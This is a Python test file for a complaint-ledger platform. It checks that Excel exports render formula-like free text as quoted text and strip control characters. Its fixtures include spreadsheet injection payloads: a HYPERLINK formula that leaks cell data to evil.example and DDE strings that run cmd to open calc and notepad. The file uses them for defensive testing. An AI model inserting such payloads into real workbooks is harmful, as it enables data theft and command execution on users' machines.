"""Every workbook the platform writes shows free text as text, never as a formula, and
the ledger export survives control characters in old data (issue 13)."""

import io

import pytest
from openpyxl import load_workbook

from qingfeng.clues.ledger import do_export_ledger, do_import_ledger
from qingfeng.clues.models import Clue, Reporter

from .ledger_support import build_indicator_ledger, ledger_row, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_HEADER = "=cmd|' /C notepad'!A1"


def _cells(path):
    sheet = load_workbook(path).worksheets[0]
    rows = list(sheet.iter_rows())
    headers = [c.value for c in rows[0]]
    return sheet, headers, [{h: c for h, c in zip(headers, row)} for row in rows[1:]]


def _no_formulas(sheet):
    return [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


@pytest.fixture
def poisoned(world, tmp_path):
    """A ledger whose free text and one kept column header look like formulas (typed
    in before this fix, or through a path that let them in)."""
    do_import_ledger(write_xlsx(tmp_path / "in.xlsx", [ledger_row(), ledger_row(线索编号="XS-002")]), acting_user=None)
    Clue.objects.filter(clue_no="XS-001").update(
        summary=HYPERLINK, subject="-2+3", subject_post="+86 青山村", handler_name=DDE, note="\t=1+1",
        extra={FORMULA_HEADER: "=1+1"})
    return world


def test_ledger_export_quotes_every_formula_like_text_cell_and_header(poisoned, tmp_path):
    out = tmp_path / "out.xlsx"
    do_export_ledger(out, acting_user=None)
    sheet, headers, rows = _cells(out)
    assert _no_formulas(sheet) == []
    assert "'" + FORMULA_HEADER in headers and FORMULA_HEADER not in headers
    first = rows[0]
    assert first["主要问题"].value == "'" + HYPERLINK
    assert first["被反映人"].value == "'-2+3" and first["被反映人单位及职务"].value == "'+86 青山村"
    assert first["承办人"].value == "'" + DDE and first["备注"].value == "'\t=1+1"
    assert first["'" + FORMULA_HEADER].value == "'=1+1"


def test_ledger_export_keeps_numbers_as_numbers(poisoned, tmp_path):
    out = tmp_path / "out.xlsx"
    do_export_ledger(out, acting_user=None)
    _, _, rows = _cells(out)
    first = rows[0]
    assert first["涉及金额"].data_type == "n" and first["涉及金额"].value == 1200.5
    assert first["组织处理人数"].data_type == "n" and first["组织处理人数"].value == 1


def test_exported_formula_text_imports_back_as_the_original_text(poisoned, tmp_path):
    first, second = tmp_path / "1.xlsx", tmp_path / "2.xlsx"
    do_export_ledger(first, acting_user=None)
    report = do_import_ledger(first, acting_user=None)
    assert report.rejected == 0 and report.unchanged == 2
    clue = Clue.objects.get(clue_no="XS-001")
    assert (clue.summary, clue.subject, clue.handler_name) == (HYPERLINK, "-2+3", DDE)
    assert clue.extra == {FORMULA_HEADER: "=1+1"}  # no second, quoted column appears
    do_export_ledger(second, acting_user=None)
    assert [[c.value for c in r] for r in load_workbook(first).worksheets[0].iter_rows()] == \
        [[c.value for c in r] for r in load_workbook(second).worksheets[0].iter_rows()]


def test_ledger_export_survives_control_characters_in_any_cell_or_header(world, tmp_path):
    do_import_ledger(write_xlsx(tmp_path / "in.xlsx", [ledger_row()]), acting_user=None)
    clue = Clue.objects.get(clue_no="XS-001")
    Reporter.objects.filter(pk=clue.reporter_id).update(name="赵\x01六", contact="138\x0200")
    Clue.objects.filter(pk=clue.pk).update(summary="冒领\x08低保金", subject="钱\x1b七",
                                           extra={"督办\x03情况": "已\x07督办"})
    out = tmp_path / "out.xlsx"
    assert do_export_ledger(out, acting_user=None) == 1
    _, headers, rows = _cells(out)
    row = rows[0]
    assert "督办情况" in headers
    assert (row["反映人"].value, row["反映人联系方式"].value) == ("赵六", "13800")
    assert (row["主要问题"].value, row["被反映人"].value, row["督办情况"].value) == ("冒领低保金", "钱七", "已督办")


def test_statistics_workbook_shows_formula_like_group_names_as_text(world, login):
    build_indicator_ledger(world)
    Clue.objects.filter(category="虚报冒领").update(category=DDE[:30])
    Clue.objects.filter(category="优亲厚友").update(category="-1+1")
    response = login(world.frank).get("/staff/reports/stats/?from=2018-04-01&to=2018-12-31&format=xlsx")
    book = load_workbook(io.BytesIO(response.content))
    assert [_no_formulas(sheet) for sheet in book.worksheets] == [[]] * len(book.worksheets)
    keys = [r[0] for r in book["按问题类别"].iter_rows(min_row=2, values_only=True)]
    assert "'" + DDE[:30] in keys and "'-1+1" in keys
    summary = {r[1]: r[2] for r in book["汇总"].iter_rows(min_row=3, values_only=True)}
    assert isinstance(summary["recovered"], float) and isinstance(summary["clues_received"], int)


def test_statistics_workbook_title_with_a_formula_like_scope_name_is_text(world, login):
    world.county.name = "=1+1"
    world.county.save(update_fields=["name"])
    response = login(world.frank).get("/staff/reports/stats/?from=2018-04-01&to=2018-12-31&format=xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["汇总"]
    assert sheet["A1"].data_type == "s" and sheet["A1"].value.startswith("'=1+1")
